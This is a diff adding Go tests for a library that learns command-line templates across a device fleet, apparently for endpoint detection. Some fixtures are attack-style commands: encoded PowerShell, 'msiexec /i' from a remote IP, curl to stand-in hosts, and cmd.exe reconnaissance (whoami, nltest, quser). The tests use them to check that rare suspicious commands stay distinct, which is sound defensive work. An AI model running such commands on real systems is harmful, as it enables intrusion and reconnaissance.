@@ -1,0 +1,173 @@
+package template
+
+import (
+	"fmt"
+	"maps"
+	"math/rand/v2"
+	"strings"
+	"testing"
+)
+
+// fleet runs a command, with %s for a value, once for each value and device.
+func fleet(command string, values ...string) []Seen {
+	var seen []Seen
+	for i, value := range values {
+		text := Of(strings.ReplaceAll(command, "%s", value), Names{})
+		seen = append(seen, Seen{text, []int32{int32(i)}})
+	}
+	return seen
+}
+
+// finals returns the distinct final templates.
+func finals(seen []Seen) map[string]bool {
+	all := map[string]bool{}
+	for _, final := range Learn(seen) {
+		all[final] = true
+	}
+	return all
+}
+
+// What differs from device to device becomes a slot.
+func TestLearnt(t *testing.T) {
+	serials := []string{"5cg1234xyz", "pf2a7k1m", "mj0c4r8w", "8w2k3j", "q7r1s9tt"}
+	for _, c := range []struct {
+		command string
+		values  []string
+		want    string
+	}{
+		{`agent.exe --serial=%s /run`, serials, `agent.exe --serial=<*> /run`},
+		{`agent.exe --serial %s /run`, serials, `agent.exe --serial <*> /run`},
+		{`c:\programdata\acme\%s\agent.exe`, serials, `c:\programdata\acme\<*>\agent.exe`},
+		{`agent.exe --site=%s`, []string{"berlin", "oslo2", "lyon", "porto", "turin"}, `agent.exe --site=<*>`},
+		{`agent.exe -o c:\logs\inventory_%s.csv`, []string{"berlin", "oslo", "lyon", "porto"}, `agent.exe -o c:\logs\inventory_<*>.csv`},
+		{`agent.exe /slot:%s`, []string{"1", "17", "23", "42"}, `agent.exe /slot:<n>`},
+		{`agent.exe -o c:\%s\x --site=%s`, []string{"s1a", "s2b", "s3c"}, `agent.exe -o c:\<*>\x --site=<*>`},
+		{`agent.exe --id=ab-%s-12345`, serials, `agent.exe --id=ab-<*>`},
+		{`c:\temp\%s.exe`, []string{"k3j9x2q", "x8q1z7p", "b4n6m2v"}, `c:\temp\<*>.exe`},
+		{`agent.exe --id=%s`, []string{"5f3a9c01", "12345678", "0a1b2c3d", "99887766"}, `agent.exe --id=<*>`},
+	} {
+		for final := range finals(fleet(c.command, c.values...)) {
+			if final != c.want {
+				t.Errorf("%s: %s, want %s", c.command, final, c.want)
+			}
+		}
+	}
+}
+
+// What tells programs apart does not, however few devices have each.
+func TestNotLearnt(t *testing.T) {
+	for command, values := range map[string][]string{
+		`powershell.exe -file c:\scripts\%s.ps1`:        {"backup_sql", "cleanup", "inventory", "sync_share", "report2"},
+		`wscript c:\scripts\%s_sql.vbs`:                 {"backup", "check", "report", "copy"},
+		`c:\programdata\%s\updater.exe`:                 {"acme", "bonzo", "corvid", "delta"},
+		`sc.exe start %s`:                               {"spooler", "backupd", "evil", "w32time"},
+		`taskhostw.exe {%s}`:                            {"222a245b-e637-4ae9-a93f-a59ca119a75e", "0f1e2d3c-1111-2222-3333-444455556666", "a7c73732-6117-4b77-b7b0-3bbaf5a5b5b5"},
+		`dllhost.exe /processid:{%s}`:                   {"222a245b-e637-4ae9-a93f-a59ca119a75e", "0f1e2d3c-1111-2222-3333-444455556666", "a7c73732-6117-4b77-b7b0-3bbaf5a5b5b5"},
+		`powershell -enc %s`:                            {"SQBFAFgAIABoAGUAbABsAG8A", "SQBFAFgAIABoAGUAbABsAG8B", "SQBFAFgAIABoAGUAbABsAG8C"},
+		`curl http://%s/a`:                              {"a1.example", "b2.example", "c3.example", "d4.example"},
+		`tool.exe -%s`:                                  {"a1", "b2", "c3", "d4"},
+		`tool.exe --%s=1`:                               {"a1", "b2", "c3", "d4"},
+		`rundll32.exe %s.dll,run`:                       {"shell1", "advpack", "acme", "zip2"},
+		`rundll32.exe acme.dll,%s`:                      {"run1", "start2", "stop3"},
+		`tool1.exe two`:                                 {"", ""},
+		`agent.exe --serial=%s`:                         {"a1b2", "c3d4"}, // two devices show nothing
+		`msiexec /i http://45.9.148.%s/x`:               {"1", "2", "3", "4"},
+		`c:\windows\system32\cmd.exe /c %s -x & exit 0`: {"whoami", "nltest", "ipconfig", "quser"},
+	} {
+		seen := fleet(command, values...)
+		want := map[string]bool{}
+		for _, s := range seen {
+			want[s.Template] = true
+		}
+		if got := finals(seen); !maps.Equal(got, want) {
+			t.Errorf("%s became %v", command, got)
+		}
+	}
+}
+
+// Devices are counted: the same device with many values, and values on many devices,
+// make no slot.
+func TestDevicesCount(t *testing.T) {
+	one := fleet("agent.exe --id=%s", "a1", "b2", "c3", "d4")
+	for i := range one {
+		one[i].Devices = []int32{7, 7}
+	}
+	if len(finals(one)) != 4 {
+		t.Error("one device made a slot")
+	}
+	many := fleet("agent.exe --mode=%s", "a1", "b2", "c3", "evil9")
+	for i := range many[:3] {
+		many[i].Devices = []int32{1, 2, 3, 4, 5}
+	}
+	if len(finals(many)) != 4 {
+		t.Error("modes made a slot")
+	}
+}
+
+// A rare argument beside a common one stays rare, whatever the common one looks like.
+func TestPlantedStaysRare(t *testing.T) {
+	common := make([]int32, 300)
+	for i := range common {
+		common[i] = int32(i)
+	}
+	for _, usual := range []string{"full", "a1", "{0F1E2D3C-1111-2222-3333-444455556666}", "12345", "1.2.3.4567", "c:/x/y"} {
+		for _, odd := range []string{"evil", "zz9q1x", "http://evil.example/a", "-enc"} {
+			seen := []Seen{{Of("agent.exe --to="+usual, Names{}), common}, {Of("agent.exe --to="+odd, Names{}), []int32{5}}}
+			if len(finals(seen)) != 2 {
+				t.Errorf("%s beside %s: %v", odd, usual, finals(seen))
+			}
+		}
+	}
+	tail := fleet(`powershell.exe -file c:\scripts\%s.ps1`, "backup_sql")
+	for i := range 40 {
+		tail = append(tail, Seen{fmt.Sprintf(`powershell.exe -file c:\scripts\%c%s.ps1`, 'a'+i%26, strings.Repeat("o", 1+i/26)+"job"), []int32{int32(i)}})
+	}
+	if len(finals(tail)) != 41 {
+		t.Errorf("%d scripts, want 41", len(finals(tail)))
+	}
+}
+
+// randomFleet has agents with serials, constants, and a tail.
+func randomFleet(r *rand.Rand, n int) []Seen {
+	var seen []Seen
+	for d := range n {
+		serial := fmt.Sprintf("%c%d%c%d", 'a'+r.IntN(26), r.IntN(1000), 'a'+r.IntN(26), r.IntN(1000))
+		for k := range 1 + r.IntN(4) {
+			text := []string{"agent.exe --id=" + serial, `c:\x\` + serial + `\run.exe --id=` + serial, "tool.exe --site=" + serial + " /full", fmt.Sprintf("job%d.exe", r.IntN(9))}[k]
+			seen = append(seen, Seen{Of(text, Names{}), []int32{int32(d)}})
+		}
+	}
+	return seen
+}
+
+// Order, repetition and splitting of what was seen change nothing; what was learnt is
+// learnt.
+func TestLearnOrder(t *testing.T) {
+	for seed := range uint64(200) {
+		r := rand.New(rand.NewPCG(seed, 3))
+		seen := randomFleet(r, 3+r.IntN(20))
+		want := Learn(seen)
+		again := append(append([]Seen{}, seen...), seen[:len(seen)/2]...)
+		r.Shuffle(len(again), func(i, j int) { again[i], again[j] = again[j], again[i] })
+		if got := Learn(again); !maps.Equal(got, want) {
+			t.Fatalf("seed %d: %v, want %v", seed, got, want)
+		}
+		for i := range seen {
+			seen[i].Template = want[seen[i].Template]
+		}
+		for from, to := range Learn(seen) {
+			if from != to || Of(to, Names{}) != to {
+				t.Fatalf("seed %d: %q became %q", seed, from, to)
+			}
+		}
+	}
+}
+
+func BenchmarkLearn(b *testing.B) {
+	r := rand.New(rand.NewPCG(1, 1))
+	seen := randomFleet(r, 40_000)
+	b.Logf("%d templates", len(Learn(seen)))
+	for b.Loop() {
+		Learn(seen)
+	}
+}
